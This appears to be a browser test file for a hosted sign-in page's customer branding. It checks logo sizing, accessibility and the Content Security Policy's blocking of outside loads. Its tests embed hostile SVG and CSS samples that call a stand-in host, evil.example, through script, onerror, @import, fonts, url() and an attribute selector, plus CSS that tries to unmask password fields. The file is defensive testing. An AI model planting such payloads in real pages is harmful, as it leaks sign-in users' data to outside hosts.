/**
 * Branding of a customer's own in a real browser: what a logo and a style sheet can do to a page
 * where users sign in, also if the check of the setting let something through.
 */
import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { beginFlow, newApp } from "../support/hosted";
import { begin, engines } from "../support/signIn";
import { accessibilityFaults } from "./axe";
import { useChromium } from "./chromium";

const browser = useChromium();
const [, startDeployed] = engines[1];
const LOGO = "https://logo.example/logo.svg";

interface Sent {
  readonly url: string;
  readonly referer: string | undefined;
}

/** A page of a client with this branding; `logo` is the file at LOGO, `sheet` replaces its own. */
async function openBranded(
  branding: object,
  { logo, sheet }: { readonly logo?: string; readonly sheet?: string } = {},
) {
  const scene = await begin(startDeployed, { features: { hostedUi: true } });
  const { clientId } = await newApp(scene, { branding });
  const context = await browser().newContext();
  const page = await context.newPage();
  const sent: Sent[] = [];
  const runtime = new URL(scene.runtime.origin).host;
  await page.route(
    ({ host }) => host !== runtime,
    async (route) => {
      const { referer } = await route.request().allHeaders();
      sent.push({ url: route.request().url(), referer });
      if (logo === undefined) await route.abort();
      else await route.fulfill({ contentType: "image/svg+xml", body: logo });
    },
  );
  if (sheet !== undefined)
    await page.route(/\/hosted\/custom\.css/, async (route) => {
      await route.fulfill({ contentType: "text/css", body: sheet });
    });
  const complaints: string[] = [];
  page.on("console", (message) => void complaints.push(message.text()));
  await page.goto(`${scene.runtime.origin}/banata${beginFlow(scene, clientId).path}`);
  return { scene, page, sent, complaints, close: async () => await context.close() };
}

const svg = (width: number, height: number, content = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"
    viewBox="0 0 ${width} ${height}"><rect width="${width}" height="${height}"/>${content}</svg>`;

const findBox = async (page: Page, selector: string) =>
  (await page.locator(selector).boundingBox())!;

test.each([
  ["very wide", 40_000, 100],
  ["very high", 100, 40_000],
  ["of one pixel", 1, 1],
])("a logo that is %s stays in its line, and in proportion", async (_, width, height) => {
  const opened = await openBranded({ logoUrl: LOGO }, { logo: svg(width, height) });
  const { page } = opened;
  const [image, main] = [await findBox(page, ".app img"), await findBox(page, "main")];
  expect(image.height).toBeLessThanOrEqual(40);
  expect(image.width).toBeLessThanOrEqual(main.width);
  const fit = await page.locator(".app img").evaluate((it) => getComputedStyle(it).objectFit);
  expect(fit).toBe("contain");
  await page.setViewportSize({ width: 320, height: 640 });
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(320);
  expect(await accessibilityFaults(page)).toEqual([]);
  await opened.close();
});

test("a logo runs no script, loads nothing, and does not learn the page's address", async () => {
  const logo = svg(
    ...([80, 40] as const),
    `<script>fetch("https://evil.example/script")</script>
    <image href="https://evil.example/image" /><style>@import "https://evil.example/css"</style>
    <foreignObject width="80" height="40"><img xmlns="http://www.w3.org/1999/xhtml"
      src="https://evil.example/x" onerror="fetch('https://evil.example/error')" /></foreignObject>`,
  );
  const opened = await openBranded({ logoUrl: LOGO }, { logo });
  await opened.page.locator(".app img").waitFor();
  await opened.page.waitForLoadState("networkidle");
  expect(opened.sent).toEqual([{ url: LOGO, referer: undefined }]);
  await opened.close();
});

test("a logo that does not load leaves the app's name, and the form", async () => {
  const opened = await openBranded({ logoUrl: LOGO });
  await opened.page.getByAltText("Shop").waitFor();
  await opened.page.getByLabel("Email address").waitFor();
  await opened.close();
});

/** As if the check of the setting had let it through. */
test("the policy stops a style sheet that loads something, whatever the setting allows", async () => {
  const evil = "https://evil.example";
  const sheet = `@import "${evil}/import";
    @font-face { font-family: leak; src: url(${evil}/font); unicode-range: U+0-FFFF }
    body { background: url(${evil}/body); font-family: leak; cursor: url(${evil}/cursor), auto }
    input { background: image-set("${evil}/set" 1x) }
    input[name="form"] { background: url(${evil}/hidden) }
    main { list-style-image: url(${evil}/list); mask: url(${evil}/mask); filter: url(${evil}/f#x) }
    h1::before { content: url(${evil}/content) }
    h1 { letter-spacing: 3px }`;
  const opened = await openBranded({ customCss: "h1 { margin: 0 }" }, { sheet });
  const { page, sent, complaints } = opened;
  await page.waitForLoadState("networkidle");
  const spacing = await page.locator("h1").evaluate((it) => getComputedStyle(it).letterSpacing);
  expect(spacing).toBe("3px"); // it was applied
  expect(sent).toEqual([]);
  expect(complaints.join("\n")).toMatch(/Content Security Policy/);
  await opened.close();
});

test("a style sheet does not show a password as text", async () => {
  const sheet = "input { -webkit-text-security: none !important; text-security: none }";
  const opened = await openBranded({ customCss: sheet });
  const { page, scene } = opened;
  await page.getByLabel("Email address").fill(scene.ada.email);
  await page.keyboard.press("Enter");
  const field = page.locator("input[type=password]").first();
  await field.waitFor();
  const security = await field.evaluate((it) =>
    getComputedStyle(it).getPropertyValue("-webkit-text-security"),
  );
  expect(security).toBe("disc");
  await opened.close();
});
